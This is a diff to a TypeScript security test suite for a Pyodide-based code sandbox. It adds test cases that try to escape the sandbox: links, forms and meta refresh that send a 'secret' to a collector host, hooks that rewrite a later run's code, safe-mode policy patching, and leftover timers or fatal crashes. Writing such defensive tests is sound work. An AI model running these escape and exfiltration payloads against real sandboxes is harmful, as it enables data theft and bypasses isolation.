@@ -29,6 +29,10 @@ export interface Attack {
   minOutputChars?: number;
   /** After the attack, a plain run must work (resource attacks). */
   thenRunWorks?: boolean;
+  /** After the run, click every link and button in the HTML outputs: none may navigate its frame or reach a target. */
+  clickLinks?: boolean;
+  /** A later run in the same session, which the attack tried to change: it must end as given and print no "ESCAPED". */
+  later?: { safeMode: boolean; code: string; status: string[]; expect?: RegExp[] };
 }
 
 const urls = (t: Targets) => JSON.stringify([t.collector, `${t.app}/api/health`, `${t.app}/api/openai/v1/chat/completions`]);
@@ -392,4 +396,170 @@ const wedges: Attack[] = [
   },
 ];
 
-export const ATTACKS: Record<string, Attack[]> = { network, escapes, storage, 'host page': hostPage, resources, wedges };
+/** HTML and Markdown outputs whose links, forms and refreshes try to navigate their frame to a target. */
+const navigation: Attack[] = [
+  {
+    name: 'links, forms and meta refresh in HTML and Markdown output do not navigate',
+    safeMode: true,
+    code: (t) =>
+      [
+        'from executor import HTML, Markdown, display',
+        `collector = ${JSON.stringify(t.collector)}`,
+        `app = ${JSON.stringify(t.app)}`,
+        'display(HTML(f\'<a id="out" href="{collector}/?secret=42">collector</a> <a href="{app}/api/config" target="_top">config</a> \'',
+        '    f\'<a href="#here">fragment</a> <form action="{collector}/form"><button>submit</button></form> \'',
+        '    f\'<svg width="40" height="20"><a href="{collector}/svg"><text y="15">svg</text></a></svg>\'',
+        '    f\'<meta http-equiv="refresh" content="0;url={collector}/refresh"><p id="here">end</p>\'))',
+        'display(Markdown(f"[markdown link]({collector}/md)"))',
+        'print("shown")',
+      ].join('\n'),
+    status: ['ok'],
+    expect: [/shown/],
+    clickLinks: true,
+    thenRunWorks: true,
+  },
+];
+
+/** Programs that try to change what later runs do, or to keep working after their run ended. */
+const tampering: Attack[] = [
+  {
+    name: "a listener or onmessage of the program's cannot rewrite a later run's code",
+    safeMode: false,
+    code: () =>
+      [
+        'import js',
+        'from pyodide.ffi import create_proxy',
+        'def rewrite(event):',
+        '    try:',
+        '        event.data.code = \'print("ESCAPED: 2 + 2 = 5")\'',
+        '    except Exception:',
+        '        pass',
+        'js.self.onmessage = create_proxy(rewrite)',
+        'js.self.addEventListener("message", create_proxy(rewrite))',
+        'print("listening")',
+      ].join('\n'),
+    status: ['ok'],
+    expect: [/listening/],
+    later: { safeMode: false, code: 'print("2 + 2 =", 2 + 2)', status: ['ok'], expect: [/2 \+ 2 = 4/] },
+  },
+  {
+    name: "a patched MessageEvent.prototype.data cannot rewrite a later run's code",
+    safeMode: false,
+    code: () =>
+      [
+        'import js',
+        'from pyodide.ffi import create_proxy, to_js',
+        'real = js.Object.getOwnPropertyDescriptor(js.MessageEvent.prototype, "data").get',
+        'def fake(this):',
+        '    data = real.call(this)',
+        '    if getattr(data, "type", None) != "run":',
+        '        return data',
+        '    copy = js.Object.assign(js.Object.new(), data)',
+        '    copy.code = \'print("ESCAPED: 2 + 2 = 5")\'',
+        '    return copy',
+        'getter = to_js({"get": create_proxy(fake, capture_this=True), "configurable": True}, dict_converter=js.Object.fromEntries)',
+        'js.Object.defineProperty(js.MessageEvent.prototype, "data", getter)',
+        'print("patched")',
+      ].join('\n'),
+    status: ['ok'],
+    expect: [/patched/],
+    later: { safeMode: false, code: 'print("2 + 2 =", 2 + 2)', status: ['ok'], expect: [/2 \+ 2 = 4/] },
+  },
+  {
+    name: 'a run without safe mode cannot switch safe mode off for a later run',
+    safeMode: false,
+    // __import__ allowed, so the later run gets past validate_code and meets the runtime checks.
+    setup: { forbiddenFunctions: 'eval, exec, open, compile' },
+    code: () =>
+      [
+        'import _executor.policy as policy',
+        'policy.activate = lambda *args, **kwargs: None',
+        'policy.check_module = lambda name: None',
+        'print("policy patched")',
+      ].join('\n'),
+    status: ['ok'],
+    expect: [/policy patched/],
+    later: {
+      safeMode: true,
+      code: 'for name in ["j" + "s", "pyodide" + "_js"]:\n    try:\n        __import__(name)\n        print("ESCAPED", name)\n    except ImportError as e:\n        print("blocked", type(e).__name__)',
+      status: ['ok'],
+      expect: [/blocked SecurityViolation/, /fresh interpreter/],
+    },
+  },
+  {
+    name: 'an asyncio task left running is cancelled when its run ends',
+    safeMode: true,
+    code: () =>
+      [
+        'import asyncio',
+        'async def spin():',
+        '    while True:',
+        '        await asyncio.sleep(0.05)',
+        '        print("ESCAPED: still computing after the run")',
+        'task = asyncio.ensure_future(spin())',
+        'print("started")',
+      ].join('\n'),
+    status: ['ok'],
+    expect: [/started/, /1 asyncio task.*cancelled/],
+    later: {
+      safeMode: true,
+      code: 'import asyncio\nawait asyncio.sleep(1)\nprint("quiet", task.cancelled())',
+      status: ['ok'],
+      expect: [/quiet True/],
+    },
+  },
+  {
+    name: 'JS intervals and timers left by a run are cancelled when it ends',
+    safeMode: false,
+    code: () =>
+      [
+        'import js',
+        'from pyodide.ffi import create_proxy',
+        'tick = create_proxy(lambda: print("ESCAPED: interval after the run"))',
+        'js.setInterval(tick, 50)',
+        'js.setTimeout(tick, 300)',
+        'print("scheduled")',
+      ].join('\n'),
+    status: ['ok'],
+    expect: [/scheduled/, /2 timers.*cancelled/],
+    later: { safeMode: false, code: 'import asyncio\nawait asyncio.sleep(1)\nprint("quiet")', status: ['ok'], expect: [/quiet/] },
+  },
+  {
+    name: 'a callback that spins after its run ends: the next run gets a fresh interpreter',
+    safeMode: false,
+    code: () =>
+      [
+        'import js',
+        'from pyodide.ffi import create_proxy',
+        'channel = js.MessageChannel.new()',
+        'def spin(event):',
+        '    while True:',
+        '        pass',
+        'channel.port1.onmessage = create_proxy(spin)',
+        'channel.port2.postMessage(0)',
+        'print("left a spinning callback")',
+      ].join('\n'),
+    status: ['ok'],
+    expect: [/left a spinning callback/],
+    later: { safeMode: false, code: 'print("next run works")', status: ['ok'], expect: [/still busy/, /next run works/] },
+  },
+  {
+    name: 'a program that makes Pyodide fail fatally: the next run is served by a fresh interpreter',
+    safeMode: false,
+    code: () => 'import js, pyodide_js\ntry:\n    pyodide_js._api.fatal_error(js.Error.new("boom"))\nexcept BaseException:\n    pass',
+    status: ['crashed'],
+    expect: [/fresh interpreter was started/, /fatal error and can no longer be used/],
+    thenRunWorks: true,
+  },
+];
+
+export const ATTACKS: Record<string, Attack[]> = {
+  network,
+  escapes,
+  storage,
+  'host page': hostPage,
+  resources,
+  wedges,
+  tampering,
+  navigation,
+};
